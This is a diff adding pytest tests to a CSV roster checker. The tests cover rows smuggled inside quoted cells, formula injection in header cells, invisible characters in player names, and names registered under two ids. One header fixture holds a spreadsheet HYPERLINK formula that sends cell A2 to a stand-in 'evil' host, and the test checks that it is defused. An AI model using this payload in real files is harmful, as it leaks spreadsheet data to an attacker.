@@ -82,6 +82,22 @@ def test_a_quote_closed_rows_later_is_an_error_not_a_long_cell(lists):
     assert exc.location.line == 2 and "followed by 'x'" in exc.message
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        # the swallowed rows leave their trailing empty cells off (attack F1)
+        'player,list,table,notes\nAnn,a.txt,1,"6 tall\nCy,b.txt,2\nDee,c.txt,3\nwears a hat"\n',
+        'player,list,notes,table\nAnn,a.txt,"6 tall\nCy,b.txt\nDee,c.txt\nwears a hat",3\n',
+        # or have more cells than the header
+        'player,list,notes\nAnn,a.txt,"6 tall\nCy,b.txt,x,y\nDee,c.txt,,,\nhat"\n',
+    ],
+)
+def test_rows_hidden_in_a_cell_are_found_whatever_their_width(lists, text):
+    exc = error_of(roster(lists, text))
+    assert exc.location.line == 2
+    assert "what reads as 2 more roster rows (lines 3, 4): 'Cy', 'Dee' would not be" in exc.message
+
+
 def test_a_pasted_list_with_commas_is_no_hidden_row(lists):
     p = lists / "r.csv"
     with open(p, "w", newline="", encoding="utf-8") as fh:
@@ -127,6 +143,24 @@ def test_formula_cells_of_the_roster_are_defused(lists):
         assert row[2] == "'" + cell
     for row in rows[1:]:
         assert not any(c.startswith(("=", "+", "-", "@", "\t")) for c in row)
+
+
+def test_formula_cells_of_the_roster_header_are_defused(lists):
+    # the header is the roster's own cells too (attack F2)
+    text = 'player,list,"=HYPERLINK(""http://evil/?""&A2,""x"")",@SUM(1),+1,-2\nAnn,a.txt,a,b,c,d\n'
+    run = check_event(
+        read_event(roster(lists, text)), as_of=__import__("datetime").date(2026, 9, 20)
+    )
+    rows = list(csv.reader(io.StringIO(get_reporter("csv").render(run))))
+    assert rows[0][:6] == [
+        "player",
+        "list",
+        '\'=HYPERLINK("http://evil/?"&A2,"x")',
+        "'@SUM(1)",
+        "'+1",
+        "'-2",
+    ]
+    assert rows[1][:6] == ["Ann", "a.txt", "a", "b", "c", "d"]
 
 
 # -- an empty roster is an error
@@ -249,6 +283,33 @@ def test_invisible_characters_do_not_make_two_players(lists):
     assert "\u200b" not in doc and json.loads(doc)["players"][1]["player"] == "Alice\u200b Moreau"
 
 
+@pytest.mark.parametrize(
+    "unseen",
+    [
+        "\u034f",  # combining grapheme joiner (default-ignorable, not Cf)
+        "\ufe0f",  # variation selector
+        "\u3164",  # Hangul filler
+        "\u115f",  # Hangul choseong filler
+        "\u2800",  # braille blank
+        "\x00",  # NUL
+        "\U000e0100",  # variation selector supplement
+    ],
+)
+def test_characters_that_render_as_nothing_do_not_make_two_players(lists, unseen):
+    # attack F4: names that render alike are one player, and the report shows the character
+    rows = [["Hans" + unseen, "", "a.txt"], ["Hans", "", "b.txt"]]
+    run = check_event(
+        read_event(names_roster(lists, rows)), as_of=__import__("datetime").date(2026, 9, 20)
+    )
+    assert all("roster-duplicate-player" in r for r in rules_by_row(run).values())
+    text = get_reporter("text").render(run)
+    assert unseen not in text
+    escaped = f"\\x{ord(unseen):02x}" if ord(unseen) < 0x100 else f"\\u{ord(unseen):04x}"
+    if ord(unseen) > 0xFFFF:
+        escaped = f"\\U{ord(unseen):08x}"
+    assert "Hans" + escaped in text
+
+
 def test_look_alike_names_are_a_warning_naming_both_rows(lists):
     rows = [
         ["Anna Kowalska", "", "a.txt"],
@@ -294,6 +355,12 @@ def test_one_name_with_an_id_and_without_is_a_warning(lists):
     assert kofi.message.startswith(
         "kofi mensah is also registered with a player id (Kofi Mensah (row 2))"
     )
-    # two players of one name with two ids are two players
-    assert "roster-lookalike-players" not in by[4] + by[5]
+    # one name under two ids: one player twice (a mistyped id), or two players of one name?
+    # Not an error (two people may share a name), a warning naming the other row (attack F5)
     assert "roster-duplicate-player" not in by[4] + by[5]
+    jun = [f for f in run.event.players[2].problems if f.rule == "roster-lookalike-players"]
+    assert [f.message for f in jun] == [
+        "Jun Park is also registered with another player id (Jun Park (row 5)): one player "
+        "twice, or two players of one name?"
+    ]
+    assert "roster-lookalike-players" in by[5]
